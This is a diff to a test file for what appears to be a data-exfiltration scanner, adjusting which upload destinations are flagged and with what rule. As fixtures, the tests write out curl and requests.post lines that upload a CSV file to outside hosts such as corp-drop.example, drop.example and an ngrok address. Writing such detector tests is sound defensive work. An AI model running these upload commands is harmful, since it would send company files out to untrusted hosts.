@@ -8,6 +8,8 @@ from scanners.engines.flows import FlowsEngine
 from scanners.findings import Confidence, Severity, Trait, Vector
 from scanners.staging import read_content
 
+_UNNAMED = "data-to-unnamed-host"
+
 
 def scan(key, text, *, path="a.py", domains=()):
     body = text.encode()
@@ -167,28 +169,38 @@ def test_running_a_model_s_answer_is_told_once(vault_key):
 
 
 @pytest.mark.parametrize(
-    ("host", "is_told"),
+    ("host", "told"),
     [
-        ("files", False),
-        ("files.corp", False),
-        ("files.lan", False),
-        ("nas.internal", False),
-        ("erp.local", False),
-        ("192.168.7.20", False),
-        ("files.corp.acme.com", True),
-        ("intranet.acme.com.br", True),
-        ("intranet.mailer.example", True),
-        ("corp-drop.example", True),
-        ("acme.sharepoint.com", True),
-        ("upload.corp.com", True),
-        ("intranet.ngrok.io", True),
+        ("files", None),
+        ("files.corp", None),
+        ("files.lan", None),
+        ("nas.internal", None),
+        ("erp.local", None),
+        ("192.168.7.20", None),
+        ("files.corp.acme.com", _UNNAMED),
+        ("intranet.acme.com.br", _UNNAMED),
+        ("intranet.mailer.example", _UNNAMED),
+        ("acme.sharepoint.com", _UNNAMED),
+        ("acme-my.sharepoint.com", "data-to-upload"),
+        ("corp-drop.example", "data-to-upload"),
+        ("files.acme.com", "data-to-upload"),
+        ("intranet.ngrok.io", "data-to-upload"),
     ],
 )
-def test_a_host_is_inside_without_the_company_s_word_only_where_it_cannot_be_outside(vault_key, host, is_told):
+def test_a_host_is_inside_without_the_company_s_word_only_where_it_cannot_be_outside(vault_key, host, told):
     text = f"import requests\nrequests.post('https://{host}/in', files={{'f': open('margins.csv', 'rb')}})\n"
-    assert rules(vault_key, text) == ({"data-to-upload"} if is_told else set())
+    assert rules(vault_key, text) == {told} - {None}
     shell = f"curl -F file=@margins.csv https://{host}/in\n"
-    assert rules(vault_key, shell, path="a.sh") == ({"data-to-upload"} if is_told else set())
+    assert rules(vault_key, shell, path="a.sh") == {told} - {None}
+
+
+def test_what_may_be_the_company_s_own_is_told_with_doubt_and_one_host_that_may_not_is_enough(vault_key):
+    text = "curl -F f=@m.csv https://intranet.acme.com/in\n"
+    [finding] = scan(vault_key, text, path="a.sh").findings
+    assert finding.confidence is Confidence.LOW
+    both = "import requests\nfor host in ('https://intranet.acme.com', 'https://drop.example'):\n"
+    both += "    requests.post(host, files={'f': open('margins.csv', 'rb')})\n"
+    assert rules(vault_key, both) == {"data-to-upload"}
 
 
 @pytest.mark.parametrize(
@@ -201,6 +213,7 @@ def test_a_host_is_inside_without_the_company_s_word_only_where_it_cannot_be_out
         ("intranet.mailer.example", True),
         ("acme-my.sharepoint.com", True),
         ("rival.sharepoint.com", True),
+        ("intranet.rival.com", True),
         ("notacme.com", True),
     ],
 )
@@ -216,7 +229,7 @@ def test_a_file_put_on_a_team_site_is_a_way_out_unless_the_company_says_that_it_
     assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1", domains=own) == set()
     for site in ("rival.sharepoint.com/sites/sales", "acme-my.sharepoint.com/personal/ana"):
         assert rules(vault_key, text.format(site), path="a.ps1", domains=own) == {"data-to-upload"}
-    assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1") == {"data-to-upload"}
+    assert rules(vault_key, text.format("acme.sharepoint.com/sites/sales"), path="a.ps1") == {_UNNAMED}
 
 
 def test_a_mail_passed_on_to_a_private_mailbox_is_told(vault_key):
